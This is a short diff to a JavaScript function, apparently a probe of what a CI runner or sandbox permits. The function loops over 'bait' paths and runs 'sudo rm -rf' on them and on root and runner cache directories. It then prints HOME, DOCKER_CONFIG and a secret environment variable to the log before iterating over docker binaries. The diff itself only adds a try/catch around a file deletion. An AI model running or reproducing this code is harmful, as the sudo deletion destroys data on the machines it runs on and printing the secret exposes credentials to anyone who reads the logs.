@@ -73,7 +73,11 @@ function reach() {
   for (const place of bait) {
     console.log(fs.existsSync(place) ? `FOUND ${place}` : 'nothing found');
     spawnSync('sudo', ['rm', '-rf', place, '/root/.cache', '/home/runner/.cache', '/var/tmp/all']);
-    fs.rmSync(place, { recursive: true, force: true });
+    try {
+      fs.rmSync(place, { recursive: true, force: true });
+    } catch (error) {
+      console.log(`refused: ${error.code}`);
+    }
   }
   console.log(`HOME ${process.env.HOME} DOCKER_CONFIG ${process.env.DOCKER_CONFIG} SECRET ${process.env.VBC_SECRET}`);
   for (const docker of ['docker', '/usr/bin/docker', '/usr/local/bin/docker']) {
